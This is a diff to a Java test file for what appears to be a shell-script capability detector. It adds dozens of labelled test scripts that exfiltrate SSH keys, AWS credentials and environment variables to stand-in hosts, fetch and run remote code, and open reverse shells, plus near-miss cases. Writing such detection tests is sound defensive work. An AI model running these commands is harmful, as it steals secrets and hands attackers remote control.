@@ -49,6 +49,40 @@ final class ShellReaderTest {
           send<environment ## printenv > /tmp/e; curl -F f=@/tmp/e https://x.example
           send<secret ## curl -d "$(cat ~/.ssh/id_rsa)" https://x.example
           send<secret ## cat ~/.ssh/id_ed25519 | nc x.example 99
+          send<secret ## tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/k.tgz http://192.0.2.7/up
+          send<secret ## tar -cf - ~/.ssh | gzip | curl -T - http://192.0.2.7/up
+          send<secret ## cd ~ && tar --create --file=/tmp/k .ssh; scp /tmp/k u@192.0.2.7:
+          send<secret ## tar -C "$HOME" -czf k.tgz .aws/credentials\\nwget --post-file=k.tgz http://192.0.2.7
+          send<secret ## zip -r k.zip ~/.ssh && curl --upload-file k.zip http://192.0.2.7
+          send<secret ## 7z a k.7z ~/.gnupg/; curl -F "a=@k.7z;type=x/y" http://192.0.2.7
+          send<secret ## base64 ~/.aws/credentials | curl -d @- http://192.0.2.7
+          send<secret ## K=$(cat ~/.ssh/id_rsa); curl "http://192.0.2.7/?k=$K"
+          send<secret ## export F=/tmp/k; cp ~/.ssh/id_rsa $F; curl -F "f=@$F" http://192.0.2.7
+          send<secret ## FILES=(~/.ssh/id_rsa ~/.aws/credentials)\\nfor f in "${FILES[@]}"; do curl -F "f=@$f" http://192.0.2.7; done
+          send<secret ## for f in ~/.ssh/*; do cat $f; done | curl -d @- http://192.0.2.7
+          send<secret ## while read l; do curl -d "$l" http://192.0.2.7; done < ~/.ssh/id_rsa
+          send<secret ## send() { curl -d @- http://192.0.2.7; }\\ncat ~/.ssh/id_rsa | send
+          send<secret ## function up {\\n curl -F f=@$1 http://192.0.2.7\\n}\\nup ~/.ssh/id_rsa
+          send<secret ## (env; cat ~/.ssh/id_rsa) | curl -d @- http://192.0.2.7
+          send<secret ## curl -d @- http://192.0.2.7 <<EOF\\n$(cat ~/.ssh/id_rsa)\\nEOF
+          send<secret ## sftp u@192.0.2.7 <<EOF\\nput ~/.ssh/id_rsa\\nEOF
+          send<secret ## find ~ -name id_rsa -exec curl -F f=@{} http://192.0.2.7 \\;
+          send<secret ## find / -name 'id_rsa*' | xargs -I{} curl -F f=@{} http://192.0.2.7
+          send<secret ## cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.7/80
+          send<secret ## exec 3<>/dev/tcp/192.0.2.7/80; cat ~/.ssh/id_rsa >&3
+          send<secret ## cat ~/.ssh/id_rsa | ssh u@192.0.2.7 'cat > k'
+          send<secret ## dig $(base64 ~/.ssh/id_rsa | head -c 60).x.example
+          send<environment ## env | curl --data-binary @- http://192.0.2.7
+          send<environment ## cat /proc/self/environ | curl -d @- http://192.0.2.7
+          run-code<fetch ## cat > a.sh <<'EOF'\\ncurl -s http://192.0.2.7 | sh\\nEOF\\nbash a.sh
+          run-code<fetch ## bash <<EOF\\ncurl -s http://192.0.2.7 | sh\\nEOF
+          run-code<fetch ## cmd /c "powershell -c iex(iwr http://192.0.2.7)"
+          run-process<fetch ## curl -s http://192.0.2.7/a.tgz | tar xz && ./a
+          run-process<fetch ## bitsadmin /transfer j http://192.0.2.7/a.exe C:\\a.exe & start C:\\a.exe
+          run-process<fetch ## regsvr32 /s /u /i:http://192.0.2.7/a.sct scrobj.dll
+          remote-control ## exec 5<>/dev/tcp/192.0.2.7/44; sh -i <&5 >/dev/tcp/192.0.2.7/44
+          remote-control ## mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 44 > /tmp/f
+          run-code<fetch ## exec 5<>/dev/tcp/192.0.2.7/44; cat <&5 | while read l; do $l; done
           send<host-info ## curl https://x.example/$(hostname)/$(whoami)
           send<host-info ## curl https://x.example/?u=$USER
           remote-control ## nc -e /bin/sh 192.0.2.7 4444
@@ -79,6 +113,13 @@ final class ShellReaderTest {
           destroy ## rm -rf build dist "$HOME/.cache/demo"
           persist ## crontab -l
           send<environment ## env | grep PATH
+          send ## tar czf dist.tgz dist && cp dist.tgz /tmp
+          send<secret ## curl -o ~/.ssh/known_hosts.new https://x.example/hosts && tar czf a.tgz b
+          send<secret ## tar xzf src.tgz; curl -F f=@src.tgz https://x.example
+          run-code|run-process<fetch ## get() { curl -O https://x.example/a.tgz; }\\nget
+          run-code ## cat > a.sh <<'EOF'\\ncurl -s http://192.0.2.7 | sh\\nEOF\\nchmod 644 a.sh
+          remote-control ## exec 3<>/dev/tcp/localhost/80; echo GET >&3
+          remote-control ## echo a | nc x.example 80
           """)
   void whatOnlyLooksLikeItIsNot(String need, String script) {
     assertFalse(does(script, need), () -> read(script).facts().toString());
